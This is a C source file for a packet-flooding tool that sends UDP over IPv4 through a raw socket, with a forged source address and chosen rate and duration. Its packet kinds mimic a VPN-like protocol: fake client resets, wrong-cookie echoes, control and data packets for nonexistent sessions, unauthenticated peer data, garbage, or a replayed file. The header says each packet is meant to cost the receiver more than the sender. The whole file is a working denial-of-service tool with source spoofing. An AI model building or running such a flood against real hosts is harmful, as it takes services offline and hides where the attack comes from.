/* A flood of forged packets: UDP over IPv4 by a raw socket, so that each packet costs the sender less than the receiver.
 * Root.
 *
 *     flood SOURCE DESTINATION PORT KIND PACKETS_PER_S SECONDS [SOURCE_PORT]
 *
 * Without a SOURCE_PORT, ports change. KIND:
 *     reset     as a client begins
 *     echo      the packet that should bring our cookie back, with a wrong one
 *     control   control packets of sessions that nobody has
 *     data      data of peers that nobody is
 *     peer      data of the first few peers, which somebody probably is, and which does not authenticate
 *     garbage   anything
 *     @FILE     what is in the file, again and again
 * Prints how many packets it sent in how many seconds. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, PAYLOAD_MAX = 1400, GARBAGE_MAX = 64, DATA_BYTES = 100, FIRST_PORT = 1024, PEERS = 4 };

static uint8_t recorded[PAYLOAD_MAX];
static size_t recorded_length;

struct forged {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t payload[PAYLOAD_MAX];
};

static uint64_t random_state = 0x9E3779B97F4A7C15u;

static uint64_t next_random(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return random_state;
}

static size_t fill_data(uint8_t *payload, uint32_t peer)
{
    for (unsigned at = 0; at + 8 <= DATA_BYTES; at += 8) {
        uint64_t sealed = next_random();
        memcpy(payload + at, &sealed, sizeof sealed);
    }
    payload[0] = 9 << 3; /* under key id 0 */
    payload[1] = (uint8_t)(peer >> 16);
    payload[2] = (uint8_t)(peer >> 8);
    payload[3] = (uint8_t)peer;
    return DATA_BYTES;
}

static size_t fill(uint8_t *payload, const char *kind)
{
    static const uint8_t opcodes[] = {3, 4, 5, 7, 10, 11};
    uint64_t session_id = next_random(), cookie = next_random();
    if (kind[0] == '@') {
        memcpy(payload, recorded, recorded_length);
        return recorded_length;
    }
    if (strcmp(kind, "data") == 0)
        return fill_data(payload, (uint32_t)session_id);
    if (strcmp(kind, "peer") == 0)
        return fill_data(payload, (uint32_t)session_id % PEERS);
    memset(payload, 0, GARBAGE_MAX);
    memcpy(payload + 1, &session_id, 8);
    if (strcmp(kind, "reset") == 0) {
        payload[0] = 7 << 3;
        return 14; /* no acknowledgements, packet id 0 */
    }
    if (strcmp(kind, "echo") == 0) {
        payload[0] = 4 << 3;
        payload[9] = 1; /* acknowledges packet 0 of the session that the cookie names */
        memcpy(payload + 14, &cookie, 8);
        payload[25] = 1; /* packet id */
        return 40;
    }
    if (strcmp(kind, "control") == 0) {
        payload[0] = (uint8_t)(opcodes[cookie % sizeof opcodes] << 3 | (cookie >> 8 & 7));
        return 20 + (cookie >> 16) % 40;
    }
    memcpy(payload, &cookie, 8);
    return 1 + session_id % GARBAGE_MAX;
}

static double seconds_since(const struct timespec *begun)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)(now.tv_sec - begun->tv_sec) + (double)(now.tv_nsec - begun->tv_nsec) / 1e9;
}

static void read_recorded(const char *path)
{
    FILE *file = fopen(path, "rb");
    recorded_length = file == NULL ? 0 : fread(recorded, 1, sizeof recorded, file);
    if (recorded_length == 0) {
        perror(path);
        exit(1);
    }
    fclose(file);
}

int main(int argc, char **argv)
{
    if (argc != 7 && argc != 8) {
        fprintf(stderr, "usage: flood SOURCE DESTINATION PORT KIND PACKETS_PER_S SECONDS [SOURCE_PORT]\n");
        return 2;
    }
    if (argv[4][0] == '@')
        read_recorded(argv[4] + 1);
    uint16_t only_port = argc == 8 ? (uint16_t)atoi(argv[7]) : 0;
    static struct forged packets[BATCH];
    static struct iovec vectors[BATCH];
    static struct mmsghdr messages[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct in_addr from;
    if (inet_pton(AF_INET, argv[1], &from) != 1 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
        return 2;
    double rate = atof(argv[5]), seconds = atof(argv[6]);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("raw socket");
        return 1;
    }
    for (unsigned i = 0; i < BATCH; i++) {
        vectors[i].iov_base = &packets[i];
        messages[i].msg_hdr =
            (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    struct timespec begun;
    clock_gettime(CLOCK_MONOTONIC, &begun);
    unsigned long sent = 0;
    double now;
    while ((now = seconds_since(&begun)) < seconds) {
        if ((double)sent > now * rate) {
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        for (unsigned i = 0; i < BATCH; i++) {
            struct forged *packet = &packets[i];
            size_t length = fill(packet->payload, argv[4]);
            packet->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
            packet->ip.saddr = from.s_addr;
            packet->ip.daddr = to.sin_addr.s_addr; /* the kernel fills in length and checksum */
            packet->udp.source =
                htons(only_port != 0 ? only_port : (uint16_t)(FIRST_PORT + next_random() % (65536 - FIRST_PORT)));
            packet->udp.dest = htons((uint16_t)atoi(argv[3]));
            packet->udp.len = htons((uint16_t)(sizeof packet->udp + length)); /* no checksum: allowed over IPv4 */
            vectors[i].iov_len = sizeof packet->ip + sizeof packet->udp + length;
        }
        int done = sendmmsg(fd, messages, BATCH, 0);
        if (done > 0)
            sent += (unsigned long)done;
        else if (errno != ENOBUFS && errno != EINTR) {
            perror("sendmmsg");
            return 1;
        }
    }
    printf("%lu packets in %.3f s\n", sent, seconds_since(&begun));
    return 0;
}
